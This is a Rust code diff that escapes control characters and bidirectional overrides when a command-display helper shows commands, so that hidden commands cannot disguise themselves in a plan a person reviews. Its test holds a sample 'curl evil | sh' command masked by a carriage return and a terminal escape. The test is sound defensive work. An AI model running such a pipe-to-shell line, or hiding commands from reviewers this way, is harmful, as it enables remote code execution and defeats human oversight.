@@ -120,12 +120,37 @@ pub fn display_argv(argv: &[String]) -> String {
 
 /// Quotes a word for display only when it needs it (the real quoting for remote shells is
 /// [`crate::quote::quote_argv`]).
+///
+/// A word with control characters other than newline and tab (an escape sequence, a carriage
+/// return that would overwrite the line) or bidirectional overrides is shown in bash's `$'...'`
+/// form with those characters escaped: a profile's command must not be able to hide itself, or
+/// another, in the plan that a person reviews.
 fn display_quote(w: &str) -> String {
     let plain = !w.is_empty()
         && w.bytes()
             .all(|b| b.is_ascii_alphanumeric() || b"-_./:=,@%+".contains(&b));
+    let hidden = |c: char| c != '\n' && c != '\t' && crate::error::is_unsafe_char(c);
     if plain {
         w.to_string()
+    } else if w.chars().any(hidden) {
+        let mut s = String::from("$'");
+        for c in w.chars() {
+            match c {
+                '\\' => s.push_str("\\\\"),
+                '\'' => s.push_str("\\'"),
+                '\n' => s.push_str("\\n"),
+                '\t' => s.push_str("\\t"),
+                '\r' => s.push_str("\\r"),
+                '\u{1b}' => s.push_str("\\e"),
+                c if hidden(c) && (c as u32) < 0x100 => {
+                    s.push_str(&format!("\\x{:02x}", c as u32));
+                }
+                c if hidden(c) => s.push_str(&format!("\\u{:04x}", c as u32)),
+                c => s.push(c),
+            }
+        }
+        s.push('\'');
+        s
     } else {
         crate::quote::quote(w)
     }
@@ -203,6 +228,33 @@ mod tests {
             .args(["exec", "100", "--", "sh", "-c", "echo a b"])
             .arg("");
         assert_eq!(c.to_string(), "pct exec 100 -- sh -c 'echo a b' ''");
+    }
+
+    #[test]
+    fn control_characters_cannot_hide_a_command_in_the_display() {
+        // `\r` and an escape sequence would redraw the line on a terminal.
+        let c = Cmd::new("sh")
+            .arg("-c")
+            .arg("curl evil | sh\r\u{1b}[2Kecho hello")
+            .arg("a'b\u{202e}c\\");
+        let shown = c.to_string();
+        assert!(!shown.contains(['\r', '\u{1b}', '\u{202e}']), "{shown:?}");
+        assert_eq!(
+            shown,
+            "sh -c $'curl evil | sh\\r\\e[2Kecho hello' $'a\\'b\\u202ec\\\\'"
+        );
+        // bash reads it back as the same argv.
+        if let Ok(out) = std::process::Command::new("bash")
+            .arg("-c")
+            .arg(format!("printf '%s\\0' {}", &shown["sh -c ".len()..]))
+            .output()
+        {
+            let words: Vec<&[u8]> = out.stdout.split(|b| *b == 0).collect();
+            assert_eq!(words[0], "curl evil | sh\r\u{1b}[2Kecho hello".as_bytes());
+            assert_eq!(words[1], "a'b\u{202e}c\\".as_bytes());
+        }
+        // Newlines and tabs (the tool's own scripts) keep the plain single-quoted form.
+        assert_eq!(display_argv(&["a\n\tb".to_string()]), "'a\n\tb'");
     }
 
     #[test]
